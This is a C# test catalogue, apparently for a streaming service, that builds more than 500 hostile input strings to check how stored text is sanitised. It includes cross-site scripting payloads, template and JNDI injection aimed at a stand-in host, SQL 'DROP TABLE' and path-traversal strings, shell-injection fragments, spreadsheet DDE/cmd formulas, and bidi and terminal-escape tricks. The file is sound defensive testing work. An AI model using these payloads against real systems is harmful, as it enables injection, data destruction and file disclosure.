namespace StreamOps.Testing.Catalogue;

/// <summary>More than 500 texts that somebody may put where the service keeps words for us, made from a table: what each attack says, and how it may be wrapped.</summary>
public static class HostileTexts
{
    /// <summary>Stands in each that would become markup: an element or an attribute with it was made by the text.</summary>
    public const string Mark = "zqx";

    private static readonly string[] Scripts =
    [
        "<script>zqx()</script>",
        "<SCRIPT SRC=//zqx.example></SCRIPT>",
        "<script/zqx>zqx()</script>",
        "</title><script>zqx()</script>",
        "</textarea><script>zqx()</script>",
        "</bdi><script>zqx()</script>",
        "<!--zqx--><script>zqx()</script>",
        "<img src=x onerror=zqx()>",
        "<img src=x:x onload=zqx() zqx=1>",
        "<svg onload=zqx()>",
        "<svg><script>zqx()</script></svg>",
        "<svg><animate onbegin=zqx() attributeName=x></svg>",
        "<svg><foreignObject><iframe srcdoc='zqx'></svg>",
        "<math><mtext zqx=1></math>",
        "<iframe src=javascript:zqx()></iframe>",
        "<object data=javascript:zqx()></object>",
        "<embed src=javascript:zqx()>",
        "<a href=javascript:zqx()>zqx</a>",
        "<form action=javascript:zqx()><button zqx=1>",
        "<input autofocus onfocus=zqx()>",
        "<details open ontoggle=zqx()>",
        "<body onload=zqx()>",
        "<base href=//zqx.example>",
        "<link rel=stylesheet href=//zqx.example zqx=1>",
        "<meta http-equiv=refresh content=0;url=//zqx.example zqx=1>",
        "<style>*{background:url(//zqx.example)}</style>",
        "<template zqx=1><b>",
        "<marquee onstart=zqx()>",
        "<video><source onerror=zqx()></video>",
        "<audio src=x onerror=zqx()>",
        "<noscript zqx=1><p title=\"</noscript><img src=x onerror=zqx()>\">",
        "<b zqx=1>bold",
        "<countdown-clock zqx=1></countdown-clock>",
        "<!--Blazor:{\"zqx\":1}-->",
    ];

    private static readonly string[] Attributes =
    [
        "\" onmouseover=\"zqx()",
        "' onfocus='zqx() autofocus",
        "` onload=`zqx()",
        "\"><img src=x onerror=zqx()>",
        "'><svg onload=zqx()>",
        "\" style=\"background:url(javascript:zqx())\" zqx=\"",
        "javascript:zqx()",
        "JaVaScRiPt:zqx()",
        "java\tscript:zqx()",
        "data:text/html,<script>zqx()</script>",
        "vbscript:zqx()",
        "&#34; onclick=zqx()",
        "&quot;&gt;&lt;script&gt;zqx()&lt;/script&gt;",
        "\\u003cscript\\u003ezqx()\\u003c/script\\u003e",
        "%3Cscript%3Ezqx()%3C/script%3E",
    ];

    private static readonly string[] Templates =
    [
        "{{7*7}}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "@(7*7)",
        "@{throw}",
        "{{constructor.constructor('zqx()')()}}",
        "${jndi:ldap://zqx.example/a}",
        "[[${7*7}]]",
        "*{7*7}",
        "{0}",
        "{Name}",
        "{{}}",
        "%s%s%s%n",
        "%x%x%x",
        "%1$s",
        "$(zqx)",
        "`zqx`",
        "; zqx",
        "| zqx",
        "' OR '1'='1",
        "'; DROP TABLE Audit;--",
        "\"; DROP TABLE Audit;--",
        "../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "expression(zqx())",
        "@import '//zqx.example'",
        "}*{color:red",
        ":root{--space:0}",
        "url(//zqx.example)",
    ];

    private static readonly string[] Formulas =
    [
        "=1+1",
        "=cmd|'/c calc'!A1",
        "=HYPERLINK(\"https://zqx.example\",\"x\")",
        "+1+1",
        "-1+1",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(A1)",
        "\",=1+1",
        "\"\n=1+1",
        ";=1+1",
        "=DDE(\"zqx\";\"x\";\"y\")",
        "=IMPORTXML(\"https://zqx.example\",\"//a\")",
        "0x7F",
    ];

    private static readonly string[] Hidden =
    [
        "\u202Egpj.exe",
        "\u202Dabc",
        "\u202Aabc\u202C",
        "\u2066abc",
        "\u2067abc\u2069\u2069",
        "\u200Fabc",
        "\u200Eabc",
        "\u061Cabc",
        "a\u200Bb",
        "a\u200Cb",
        "a\u200Db",
        "a\u2060b",
        "a\uFEFFb",
        "a\u00ADb",
        "a\u034Fb",
        "a\u180Eb",
        "a\u115Fb",
        "a\u3164b",
        "a\uFFA0b",
        "a\u2028b",
        "a\u2029b",
        "a\u0085b",
        "a\uFE0Fb",
        "a\U000E0041b",
        "a\U000E0001b",
        "Z\u0335\u0336\u0337\u0338\u0321\u0322\u0327\u0328",
        "\u0000",
        "a\u0000b",
        "a\bb",
        "a\u007Fb",
        "a\u009Bb",
        "\uD800",
        "\uDC00",
        "a\uD83Db",
        "\uDC00\uD800",
        "\uFFFE",
        "\uFFFF",
        "\U0001FFFF",
    ];

    private static readonly string[] Terminals =
    [
        "\u001B[2J",
        "\u001B[31mfail",
        "\u001B]0;zqx\u0007",
        "\u001B]8;;https://zqx.example\u001B\\x",
        "\u001BPzqx\u001B\\",
        "\u009B2J",
        "\u001B[1A\u001B[2K",
        "\r\nfail: All[0]",
        "\nSet-Cookie: zqx=1",
        "\r\n\r\n<html zqx=1>",
        "a\rb",
        "a\vb",
        "a\fb",
        "\u0007\u0007",
        "%0d%0aX-A: zqx",
        "\u2028fail: All[0]",
    ];

    /// <summary>All of them, each once.</summary>
    public static IReadOnlyList<string> All { get; } =
    [
        .. Scripts
            .Concat(Attributes)
            .Concat(Templates)
            .Concat(Formulas)
            .Concat(Hidden)
            .Concat(Terminals)
            .SelectMany(text => new[] { text, $"Mara {text}", $"{text}\u202E", $"\"{text}'" })
            .Distinct(StringComparer.Ordinal),
    ];
}
